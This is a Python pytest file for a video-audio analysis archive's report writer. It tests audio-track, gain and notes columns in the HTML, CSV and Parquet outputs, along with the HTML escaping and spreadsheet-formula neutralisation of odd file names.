    assert CSV_COLUMNS[21:23] == ("audio_track", "audio_channel")
    assert CSV_COLUMNS[23:] == ("notes", "gain_db")


def _cells(page: str) -> dict[str, list[str]]:
    """The videos table's rows: path -> the text of its other cells."""
    videos = page[page.index('id="videos"'):]
    return {path: re.findall(r"<td[^>]*>([^<]*)</td>", row)
            for path, row in re.findall(r"<tr><td>([^<]+)</td>(.*?)</tr>", videos)}


def test_the_videos_table_says_which_sound_each_video_s_figures_describe(archive_out):
    # the archive keeps each run's audio track and channel (schema 8), and the CSV, the Parquet file and one run's
    # page showed them; the archive's page did not: a dub's figures, or one language of a dual-mono broadcast's, read
    # as the original's. Not known for a run recorded before they were kept: said so, not taken for track 0's mix
    with Store.open(archive_out / DB_NAME) as store:
        store.record(make_record("s3/ep06.mp4", key="k6", result=make_result("ep06.mp4", audio_track=0)),
                     batch_id=None)
    page = write_report(archive_out, parquet=False).html.read_text(encoding="utf-8")
    videos = page[page.index('id="videos"'):]
    assert re.findall(r"<th>([^<]*)</th>", videos)[:3] == ["file", "duration", "audio"]
    audio = {path: cells[1] for path, cells in _cells(page).items()}
    assert audio["s1/ep02.mp4"] == "track 1, right channel"
    assert audio["s3/ep06.mp4"] == "track 0, mix"
    assert audio["s1/ep01.mp4"] == "not recorded"


def test_the_report_says_which_videos_were_analysed_raised(archive_out):
    # a recording too quiet for stage 1 is analysed raised (its JSON's source.gain_db): its figures are of the raised
    # sound. The archive's page, CSV and Parquet file now say the gain; empty where not known (a run or JSON from
    # before it was recorded) and for a failure, 0 at the file's own level
    with Store.open(archive_out / DB_NAME) as store:
        store.record(make_record("s3/quiet.mp4", key="k6", result=make_result("quiet.mp4", audio_track=0,
                                                                              gain_db=26.6)), batch_id=None)
        store.record(make_record("s3/own.mp4", key="k7", result=make_result("own.mp4", audio_track=1,
                                                                            audio_channel="left", gain_db=0.0)),
                     batch_id=None)
        # half a dB rounds to no raise on the page; a negative gain (a JSON edited by hand) is no raise either
        store.record(make_record("s3/half.mp4", key="k8", result=make_result("half.mp4", audio_track=0,
                                                                             gain_db=0.4)), batch_id=None)
        store.record(make_record("s3/edited.mp4", key="k9", result=make_result("edited.mp4", audio_track=0,
                                                                               gain_db=-6.0)), batch_id=None)
    outputs = write_report(archive_out)
    audio = {path: cells[1] for path, cells in _cells(outputs.html.read_text(encoding="utf-8")).items()}
    assert audio["s3/quiet.mp4"] == "track 0, mix, raised 27 dB"
    assert audio["s3/own.mp4"] == "track 1, left channel" and audio["s1/ep01.mp4"] == "not recorded"
    assert audio["s3/half.mp4"] == audio["s3/edited.mp4"] == "track 0, mix"
    with open(outputs.csv, newline="", encoding="utf-8-sig") as handle:
        gains = {row["path"]: row["gain_db"] for row in csv.DictReader(handle)}
    assert gains == {"s3/quiet.mp4": "26.6", "s3/own.mp4": "0.0", "s3/half.mp4": "0.4", "s3/edited.mp4": "-6.0",
                     "s1/ep01.mp4": "", "s1/ep02.mp4": "",
                     "s2/<b>odd & name</b>.mp4": "", "s2/ep04.mkv": "", "s2/broken.mp4": ""}
    if parquet_available():
        import pyarrow.parquet as pq

        parquet = {row["path"]: row["gain_db"] for row in pq.read_table(outputs.parquet).to_pylist()}
        assert parquet["s3/quiet.mp4"] == 26.6 and parquet["s3/own.mp4"] == 0.0 and parquet["s2/broken.mp4"] is None


def test_the_report_lists_each_video_s_notes(archive_out):
    # what `dramapic run` tells its user about a file (a DC offset, a stale subtitle file in the other format) is kept
    # with the file's run by a batch; the page lists it under the file's path. A run recorded before dramapic kept
    # notes is said to be without known notes, not taken for one without any
    import dataclasses
    import sqlite3

    with Store.open(archive_out / DB_NAME) as store:
        store.record(dataclasses.replace(make_record("s3/<i>dc</i>.mp4", key="k6", result=make_result("dc.mp4")),
                                         notes=("dc.mp4: its audio has a DC offset of +0.050 <b>", "dc.srt is left")),
                     batch_id=None)
    with sqlite3.connect(archive_out / DB_NAME) as db:
        db.execute("UPDATE runs SET notes_json = NULL WHERE file_id = (SELECT id FROM files WHERE path = ?)",
                   ("s1/ep01.mp4",))
    db.close()
    page = write_report(archive_out, parquet=False).html.read_text(encoding="utf-8")
    notes = page[page.index('<section id="notes">'):page.index('<section id="videos">')]
    assert re.findall(r"<tr><td>([^<]*)</td><td>([^<]*)</td></tr>", notes) == [
        ("s3/&lt;i&gt;dc&lt;/i&gt;.mp4", "dc.mp4: its audio has a DC offset of +0.050 &lt;b&gt;"),
        ("s3/&lt;i&gt;dc&lt;/i&gt;.mp4", "dc.srt is left")]
    assert "Notes (1 file)" in notes
    assert "1 file was recorded before dramapic kept each file's notes" in notes
    quiet = archive_out.parent / "quiet"
    quiet.mkdir()
    with Store.open(quiet / DB_NAME) as store:
        store.record(make_record("a.mp4"), batch_id=None)
    page = write_report(quiet, parquet=False).html.read_text(encoding="utf-8")
    assert "No notes on any file." in page[page.index('<section id="notes">'):]


def test_the_notes_of_a_failed_redo_are_listed_with_the_result_kept(archive_out):
    # a finished file redone under its own key (its outputs went missing) whose redo failed stays done with its
    # result; what the failed attempt said about the file is listed under it, marked as the redo's, each note once
    import dataclasses

    with Store.open(archive_out / DB_NAME) as store:
        store.record(dataclasses.replace(make_record("s3/dc.mp4", key="k6", result=make_result("dc.mp4")),
                                         notes=("dc.mp4: a DC offset",)), batch_id=None)
        store.record(dataclasses.replace(make_record("s3/dc.mp4", key="k6", status="failed", error="ffmpeg crashed"),
                                         notes=("dc.mp4: a DC offset", "dc.mp4: decoding errors")), batch_id=None)
    page = write_report(archive_out, parquet=False).html.read_text(encoding="utf-8")
    notes = page[page.index('<section id="notes">'):page.index('<section id="videos">')]
    assert re.findall(r"<tr><td>([^<]*)</td><td>([^<]*)</td></tr>", notes) == [
        ("s3/dc.mp4", "a DC offset"), ("s3/dc.mp4", "failed redo: decoding errors")]
    assert "Redone and failed, earlier result kept (1)" in page


def test_the_csv_and_parquet_have_each_video_s_notes_in_one_cell(archive_out):
    # the page listed each file's notes but report.csv and report.parquet had no column for them: a script or a
    # spreadsheet filtering the archive on a DC offset had to open the database. One cell, joined with " | ", as the
    # page lists them (a failed redo's marked), and neutralised like any text cell
    import dataclasses

    with Store.open(archive_out / DB_NAME) as store:
        store.record(dataclasses.replace(make_record("s3/dc.mp4", key="k6", result=make_result("dc.mp4")),
                                         notes=("dc.mp4: a DC offset", "dc.srt is left")), batch_id=None)
        store.record(dataclasses.replace(make_record("s3/dc.mp4", key="k6", status="failed", error="ffmpeg crashed"),
                                         notes=("dc.mp4: decoding errors",)), batch_id=None)
        store.record(dataclasses.replace(make_record("s3/=1+1.mp4", key="k7", result=make_result("=1+1.mp4")),
                                         notes=("=1+1.srt is left", "=1+1.mp4: a DC offset")), batch_id=None)
    outputs = write_report(archive_out)
    with open(outputs.csv, newline="", encoding="utf-8-sig") as handle:
        rows = {r["path"]: r for r in csv.DictReader(handle)}
    assert rows["s3/dc.mp4"]["notes"] == "a DC offset | dc.srt is left | failed redo: decoding errors"
    # the note's own leading name is left out (the path beside it says it); a cell that reads as a formula is
    # neutralised
    assert rows["s3/=1+1.mp4"]["notes"] == "'=1+1.srt is left | a DC offset"
    assert rows["s1/ep01.mp4"]["notes"] == "" and rows["s2/broken.mp4"]["notes"] == ""
    if parquet_available():
        import pyarrow.parquet as pq

        parquet = {row["path"]: row["notes"] for row in pq.read_table(outputs.parquet).to_pylist()}
        assert parquet["s3/dc.mp4"] == rows["s3/dc.mp4"]["notes"] and parquet["s1/ep01.mp4"] is None
